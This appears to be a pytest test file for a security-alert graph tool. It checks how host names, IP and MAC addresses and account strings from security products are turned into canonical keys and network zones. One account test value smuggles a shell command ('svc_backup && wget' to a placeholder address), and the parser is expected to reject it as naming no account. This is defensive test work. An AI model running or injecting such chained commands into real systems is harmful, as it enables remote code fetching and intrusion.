"""One spelling for one machine, address or account, and none for what names nothing."""

from __future__ import annotations

import re
from collections.abc import Iterator
from ipaddress import IPv4Address, IPv6Address, ip_address
from random import Random
from typing import Any

import pytest

from alertgraph_spark.config.source_format import Asset
from alertgraph_spark.interpret.asset_list import AssetList, End
from alertgraph_spark.interpret.entities import is_private, key_of, keys_of, zone_of

# Kind, what a product writes, and the key; a near miss stands beside what it is near to.
KEYS: list[tuple[str, str | None, str | None]] = [
    ("host", "FS01", "host:fs01"),
    ("host", "fs01.corp.example", "host:fs01"),
    ("host", " Fs01 ", "host:fs01"),
    ("host", "fs01-b.corp.example", "host:fs01-b"),
    ("host", "fs01 .corp.example", "host:fs01"),
    ("host", ".corp.example", None),  # no label, no machine
    ("host", "10.1.0.5", "ip:10.1.0.5"),  # an address where a name belongs
    ("host", "10-1-0-5.corp.example", "host:10-1-0-5"),
    ("host", "fe80::1", "ip:fe80::1"),
    ("host", "::ffff:10.1.0.5", "ip:10.1.0.5"),
    ("host", "00-1D-9C-C0-04-9D", "mac:00:1d:9c:c0:04:9d"),
    ("host", "00-1D-9C", "host:00-1d-9c"),
    ("host", "localhost", None),
    ("host", "localhost.localdomain", None),
    ("host", "localhost2", "host:localhost2"),
    ("host", "N/A", None),
    ("host", "NAS", "host:nas"),
    ("host", "", None),
    ("host", None, None),
    ("host", "FS01.corp.example.", "host:fs01"),  # the dot of the root
    ("host", "FS01$", "host:fs01"),
    ("host", "4711", "host:4711"),
    ("host", "10.1.0", None),  # neither an address nor a name
    ("host", "PLC 3", "host:plc 3"),
    ("host", "B\u00dcRO-PC7.firma.example", "host:b\u00fcro-pc7"),
    ("host", "BU\u0308RO-PC7.firma.example", "host:b\u00fcro-pc7"),  # two characters, as macOS writes
    ("host", "buero-pc7.firma.example", "host:buero-pc7"),
    ("host", "xn--bro-pc7-n2a.firma.example", "host:b\u00fcro-pc7"),
    ("host", "XN--Fiqs8s.example", "host:\u4e2d\u56fd"),
    ("host", "xn--zzzzzzzzzzzzzzzzzzzzzzzz", "host:xn--zzzzzzzzzzzzzzzzzzzzzzzz"),  # cannot be read: as it is
    ("host", "x\u0308.example", "host:\u1e8d"),
    ("host", "https://svc:pw@portal.corp.example:8443/login?x=1", "host:portal"),
    ("host", "https://10.1.0.5:8443/login", "ip:10.1.0.5"),
    ("host", "fs01:445", "host:fs01"),
    ("host", "\\\\FS01\\share", "host:fs01"),
    ("host", "CORP\\FS01$", "host:fs01"),
    ("host", "CORP\\FS01\\x", "host:corp"),
    ("host", "fs01-445", "host:fs01-445"),
    ("host", "LOCALHOST.", None),
    ("ip", "10.1.0.5", "ip:10.1.0.5"),
    ("ip", "::ffff:10.1.0.5", "ip:10.1.0.5"),
    ("ip", "::FFFF:10.1.0.5", "ip:10.1.0.5"),
    ("ip", "2001:DB8::5", "ip:2001:db8::5"),
    ("ip", "IPv4:10.1.0.5", "ip:10.1.0.5"),
    ("ip", "ipv5:10.1.0.5", None),
    ("ip", '"10.1.0.5"', "ip:10.1.0.5"),
    ("ip", "'10.1.0.5", "ip:10.1.0.5"),
    ("ip", "10.1.0.5'x'", None),
    ("ip", "0.0.0.0", None),
    ("ip", "10.0.0.0", "ip:10.0.0.0"),
    ("ip", "::ffff:127.0.0.1", None),
    ("ip", "127.0.0.1", None),
    ("ip", "::1", None),
    ("ip", "::11", "ip:::11"),
    ("ip", "-", None),
    ("ip", "2001:0db8:0000:0000:0000:0000:0000:0005", "ip:2001:db8::5"),
    ("ip", "2001:DB8:0:0:0:0:0:5", "ip:2001:db8::5"),
    ("ip", "fd00::9:0:0:0:31", "ip:fd00:0:0:9::31"),  # the longest run of zeros is the one that is left out
    ("ip", "2001:db8:0:0:1:0:0:1", "ip:2001:db8::1:0:0:1"),  # of two the first
    ("ip", "2001:db8:0:1:1:1:1:1", "ip:2001:db8:0:1:1:1:1:1"),  # one zero is written
    ("ip", "fe80::a00:27ff:fe4c:3982%eth0", "ip:fe80::a00:27ff:fe4c:3982"),
    ("ip", "2001:db8::9%16", "ip:2001:db8::9"),
    ("ip", "::1%0", None),
    ("ip", "::ffff:0a01:0005", "ip:10.1.0.5"),
    ("ip", "0:0:0:0:0:ffff:10.1.0.5", "ip:10.1.0.5"),
    ("ip", "0000:0000:0000:0000:0000:FFFF:0A01:0005", "ip:10.1.0.5"),
    ("ip", "[::ffff:10.1.0.5]:443", "ip:10.1.0.5"),
    ("ip", "::fffe:10.1.0.5", "ip:::fffe:a01:5"),
    ("ip", "64:ff9b::10.1.0.5", "ip:64:ff9b::a01:5"),
    ("ip", "1:2:3:4:5:6:7::8", None),
    ("ip", "1:2:3:4:5:6:7", None),
    ("ip", "fe80::1::2", None),
    ("ip", "12345::1", None),
    ("ip", "10.1.0.5:443", "ip:10.1.0.5"),
    ("ip", "10.1.0.5-9999", "ip:10.1.0.5"),
    ("ip", "/10.1.0.5:443", "ip:10.1.0.5"),
    ("ip", "fs01/10.1.0.5:443", "ip:10.1.0.5"),
    ("ip", "[2001:db8::5]:443", "ip:2001:db8::5"),
    ("ip", "[2001:db8::5]", "ip:2001:db8::5"),
    ("ip", "2001:db8::5:443", "ip:2001:db8::5:443"),  # without brackets it is a group
    ("ip", "010.001.000.005", "ip:10.1.0.5"),
    ("ip", "10.1.0.256", None),
    ("ip", "10.1.0.5/32", "ip:10.1.0.5"),
    ("ip", "10.1.0.0/24", None),  # a block is no machine
    ("ip", "10.1.0.128/25", None),
    ("ip", "10.1.0.5/24", "ip:10.1.0.5"),  # a machine's address, and how far its network goes
    ("ip", "10.1.0.0/443", "ip:10.1.0.0"),  # no prefix is as long: a port
    ("ip", "2001:db8::/32", None),
    ("ip", "2001:db8::5/64", "ip:2001:db8::5"),
    ("ip", "255.255.255.255", None),
    ("ip", "127.9.9.9", None),
    ("ip", "128.9.9.9", "ip:128.9.9.9"),
    ("ip", "fs01.corp.example", "host:fs01"),  # a name where an address belongs
    ("ip", "00:1D:9C:C0:04:9D", "mac:00:1d:9c:c0:04:9d"),
    ("mac", "001d.9cc0.049d", "mac:00:1d:9c:c0:04:9d"),
    ("mac", "001D9CC0049D", "mac:00:1d:9c:c0:04:9d"),
    ("mac", "001D9CC0049D00", "mac:001d9cc0049d00"),
    ("mac", "ff:ff:ff:ff:ff:ff", None),
    ("mac", "00:1D:9C:C0:04:9D", "mac:00:1d:9c:c0:04:9d"),
    ("mac", "00-1d-9c-c0-04-9d", "mac:00:1d:9c:c0:04:9d"),
    ("mac", "00:1d:9c:c0:04:9d#012", "mac:00:1d:9c:c0:04:9d"),
    ("mac", "N/A", None),
    ("device", "PLC 3 ", "device:plc 3"),
    ("device", "unknown", None),
    ("account", "CORP\\J.Meyer", "account:corp\\j.meyer"),
    ("account", "corp.example\\j.meyer", "account:corp\\j.meyer"),
    ("account", "CORP \\ j.meyer", "account:corp\\j.meyer"),
    ("account", "j.meyer@corp.example", "account:corp\\j.meyer"),
    ("account", "j.meyer@partner.example", "account:partner\\j.meyer"),  # another directory, another account
    ("account", "j.meyer", "account:j.meyer"),  # which directory is not said
    ("account", "-\\j.meyer", "account:j.meyer"),  # Windows says of a missing domain "-"
    ("account", "\\j.meyer", "account:j.meyer"),
    ("account", "-\\-", None),  # ... and of a missing logon "-" twice
    (
        "account",
        "CORP\\gmsa_backup$",
        "account:corp\\gmsa_backup$",
    ),  # a managed account; a machine's own needs its host
    ("account", "john_contoso.example#EXT#@fabrikam.onmicrosoft.example", "account:contoso\\john"),  # a guest, at home
    ("account", "john_contoso.example@fabrikam.example", "account:fabrikam\\john_contoso.example"),
    ("account", "j_may_contoso.example#EXT#@fabrikam.example", "account:contoso\\j_may"),
    ("account", "MicrosoftAccount\\tina.may@mail.example", "account:mail\\tina.may"),
    ("account", "MicrosoftAccount\\tina", "account:tina"),
    ("account", "MicrosoftAccounts\\tina", "account:microsoftaccounts\\tina"),
    ("account", "live.com#tina.may@mail.example", "account:mail\\tina.may"),
    ("account", "alive.com#tina.may@mail.example", "account:mail\\alive.com#tina.may"),
    ("account", "i:0#.f|membership|j.meyer@corp.example", "account:corp\\j.meyer"),
    ("account", "i:0#.w|CORP\\j.meyer", "account:corp\\j.meyer"),
    ("account", "j.meyer|membership", None),
    ("account", "['CORP\\j.meyer']", "account:corp\\j.meyer"),
    ("account", "j.o'meyer", "account:j.o'meyer"),
    ("account", "CN=J.Meyer,OU=Staff,DC=corp,DC=example", "account:corp\\j.meyer"),
    ("account", "NT AUTHORITY\\NetworkService", None),
    ("account", "AUTORIDAD NT\\SISTEMA", None),
    ("account", "AUTORIDAD\\SISTEMA", "account:autoridad\\sistema"),
    ("account", "S-1-5-18", None),
    ("account", "S-1-5-21-1-2-3-1001", "account:s-1-5-21-1-2-3-1001"),
    ("account", "svc_backup && wget http://198.51.100.7/x?a=b&c=d", None),  # somebody typed a command
    ("account", "svc_backup", "account:svc_backup"),
    ("account", "CORP\\FS01", "account:corp\\fs01"),
    ("account", "SYSTEM", None),
    ("account", "NT AUTHORITY\\SYSTEM", None),
    ("account", "NT AUTHORITY\\IUSR", None),
    ("account", "CORP\\Administrator", None),
    ("account", "CORP\\Administrator2", "account:corp\\administrator2"),
    ("account", "Font Driver Host\\UMFD-0", None),
    ("account", "Window Manager\\DWM-1", None),
    ("account", "NT SERVICE\\MSSQLSERVER", None),
    ("account", "CORP\\mssqlserver", "account:corp\\mssqlserver"),
    ("account", "root", None),
    ("account", "rooter", "account:rooter"),
    ("account", "", None),
    ("account", None, None),
]

# Key of an end, what is known of its zone, and the zone. What a list or a product says comes first.
ZONES: list[tuple[str | None, str | None, str | None]] = [
    ("ip:8.8.8.8", None, "external"),
    ("ip:8.8.8.8", "dmz", "dmz"),
    ("ip:10.1.0.5", None, "unknown"),
    ("ip:11.1.0.5", None, "external"),
    ("ip:172.15.0.1", None, "external"),
    ("ip:172.16.0.1", None, "unknown"),
    ("ip:172.31.255.255", None, "unknown"),
    ("ip:172.32.0.1", None, "external"),
    ("ip:192.168.0.1", None, "unknown"),
    ("ip:192.169.0.1", None, "external"),
    ("ip:169.254.1.1", None, "unknown"),
    ("ip:100.63.0.1", None, "external"),
    ("ip:100.64.0.1", None, "unknown"),
    ("ip:100.127.0.1", None, "unknown"),
    ("ip:100.128.0.1", None, "external"),
    ("ip:fd00::1", None, "unknown"),
    ("ip:fe80::1", None, "unknown"),
    ("ip:2001:db8::1", None, "external"),
    ("host:web01", None, "unknown"),
    ("host:web01", "ot", "ot"),
    ("mac:00:1d:9c:c0:04:9d", None, "unknown"),
    (None, None, None),
    (None, "ot", None),  # no end, no zone, whatever the product says
]


@pytest.mark.parametrize(("kind", "said", "key"), KEYS)
def test_keys(kind: str, said: str | None, key: str | None) -> None:
    assert key_of(kind, said) == key


LISTS: list[tuple[str, str, list[str]]] = [
    ("ip", "203.0.113.9,198.51.100.20", ["source ip:203.0.113.9", "source ip:198.51.100.20"]),
    ("ip", "unknown, 10.1.0.5", ["source ip:10.1.0.5"]),
    ("ip", "10.1.0.5 10.1.0.6", ["source ip:10.1.0.5", "source ip:10.1.0.6"]),
    ("ip", "10.1.0.0/24, 127.0.0.1", ["nobody None", "nobody None"]),
    ("ip", "N/A", []),
    ("ip", '["10.1.0.5", "10.1.0.6"]', ["source ip:10.1.0.5", "source ip:10.1.0.6"]),
    ("ip", "['10.1.0.5','2001:DB8::5']", ["source ip:10.1.0.5", "source ip:2001:db8::5"]),
    ("ip", "[2001:db8::5]:443, [2001:db8::6]", ["source ip:2001:db8::5", "source ip:2001:db8::6"]),
    ("host", "fs01; fs02", ["source host:fs01", "source host:fs02"]),
    ("host", "plc 3", ["source host:plc 3"]),
    ("account", "baker/bking/cragoso", ["source account:baker", "source account:bking", "source account:cragoso"]),
    ("account", "CORP/baker", ["source account:corp/baker"]),
    ("account", "a.b;c.d", ["source account:a.b", "source account:c.d"]),
    ("account", "Meyer, Jens", ["source account:meyer, jens"]),  # a name as people write it
]


@pytest.mark.parametrize(("kind", "said", "keys"), LISTS)
def test_a_list_is_several_and_none_of_them_is_the_list(kind: str, said: str, keys: list[str]) -> None:
    assert [f"{key.end} {key.key}" for key in keys_of([("source", kind, said.lower())])] == keys


@pytest.mark.parametrize(
    ("account", "keys"),
    [
        ("corp\\fs01$", ["host:fs01"]),
        ("corp\\fs011$", ["host:fs01", "account:corp\\fs011$"]),
        ("corp\\fs01", ["host:fs01", "account:corp\\fs01"]),
    ],
)
def test_the_account_of_a_machine_is_that_machine_and_any_other_is_an_account(account: str, keys: list[str]) -> None:
    assert [key.key for key in keys_of([("target", "host", "fs01"), ("other", "account", account)])] == keys


def spellings(random: Random, n: int) -> Iterator[tuple[str, str | None]]:
    """Addresses as products write them, and the key that Python's `ipaddress` gives; one in ten is broken."""
    for _ in range(n):
        if random.random() < 0.3:
            address: Any = IPv4Address(random.getrandbits(32))
            text = str(address)
            mapped = [f"::ffff:{text}", f"0:0:0:0:0:ffff:{text}", IPv6Address(f"::ffff:{text}").exploded]
            text = random.choice([text, text, *mapped])
            brackets = ":" in text
        else:
            groups = [random.choice(["0", "0", f"{random.getrandbits(16):x}"]) for _ in range(8)]
            address = IPv6Address(":".join(groups))
            first = random.randrange(8)
            last = random.randrange(first, 8)
            zeros = all(group == "0" for group in groups[first : last + 1])
            short = f"{':'.join(groups[:first])}::{':'.join(groups[last + 1 :])}" if zeros else ":".join(groups)
            tail = f"{':'.join(groups[:6])}:{IPv4Address(int(address) & 0xFFFFFFFF)}"
            text = random.choice([address.exploded, address.compressed, ":".join(groups), short, tail])
            brackets = True
        if random.random() < 0.1:
            text = random.choice(
                [text[1:], text[:-1], text.replace("0", "", 1), text + ":", text.replace(":", "::", 1)]
            )
        bare = random.choice([text, text.upper(), f" {text} "])
        try:
            # Python takes no octet that is filled with zeros; sensors write them, as decimal numbers.
            key = canonical(ip_address(text if ":" in text else re.sub(r"(?<![0-9])0+(?=[0-9])", "", text)))
        except ValueError:
            key = None
        if brackets and random.random() < 0.3:
            bare = f"[{bare.strip()}]{random.choice(['', ':443'])}"
        elif ":" in text and random.random() < 0.2:
            bare = f"{bare.strip()}%{random.choice(['eth0', '2'])}"
        elif not brackets and random.random() < 0.3:
            bare = f"{random.choice(['', '/'])}{bare.strip()}{random.choice([':443', '-9999'])}"
        yield bare, key


def canonical(address: IPv4Address | IPv6Address) -> str | None:
    plain = getattr(address, "ipv4_mapped", None) or address
    is_nobody = plain.is_loopback or plain.is_unspecified or str(plain) in ("255.255.255.255", "169.254.169.254")
    return None if is_nobody else f"ip:{plain}"


def test_an_address_has_the_key_that_the_standard_library_gives() -> None:
    wrong = []
    for text, want in spellings(Random(19), 100_000):
        key = key_of("ip", text)
        # What is broken may be a host's name (`abcd`), but no address.
        if key != want and (want or str(key).startswith("ip:")):
            wrong.append((text, want, key))
    assert wrong == []


@pytest.mark.parametrize(("key", "known", "zone"), ZONES)
def test_zones(key: str | None, known: str | None, zone: str | None) -> None:
    assert zone_of(key, known, "host:fs01") == zone


NEIGHBOURS: list[tuple[str, str | None, str | None, str]] = [
    ("ip:141.81.0.66", None, "ip:141.81.0.10", "unknown"),  # a plant on public addresses
    ("ip:141.81.1.66", None, "ip:141.81.0.10", "external"),  # the next block may be anybody's
    ("ip:141.81.0.66", None, "ip:14.181.0.66", "external"),
    ("ip:141.81.0.66", "dmz", "ip:141.81.0.10", "dmz"),
    ("ip:141.81.0.66", None, None, "external"),
    ("ip:2001:db8::1", None, "ip:2001:db8::1", "external"),
]


@pytest.mark.parametrize(("key", "known", "other", "zone"), NEIGHBOURS)
def test_a_public_address_is_no_stranger_to_its_own_block(
    key: str, known: str | None, other: str | None, zone: str
) -> None:
    assert zone_of(key, known, other) == zone


def test_a_private_address_is_nobody_outside() -> None:
    assert [is_private(key) for key in ("ip:10.0.0.1", "ip:9.255.255.255", "ip:fc00::1", "ip:fbff::1")] == [
        *(True, False),
        *(True, False),
    ]


@pytest.mark.parametrize(
    ("block", "inside", "outside"),
    [
        ("10.1.0.0/30", ["10.1.0.0", "10.1.0.3"], ["10.0.255.255", "10.1.0.4"]),
        ("10.1.0.2/30", ["10.1.0.0", "10.1.0.3"], ["10.1.0.4"]),  # host bits may be set: a list is written by hand
        ("10.1.0.7/32", ["10.1.0.7"], ["10.1.0.6", "10.1.0.8"]),
        ("0.0.0.0/0", ["0.0.0.1", "255.255.255.254"], ["fe80::1", "fs01"]),
    ],
)
def test_a_block_holds_its_addresses(block: str, inside: list[str], outside: list[str]) -> None:
    listed = AssetList([Asset(block, zone="ot")])
    zones = [listed.resolved(End(key_of("host", name))).zone for name in (*inside, *outside)]
    assert zones == ["ot"] * len(inside) + [None] * len(outside)
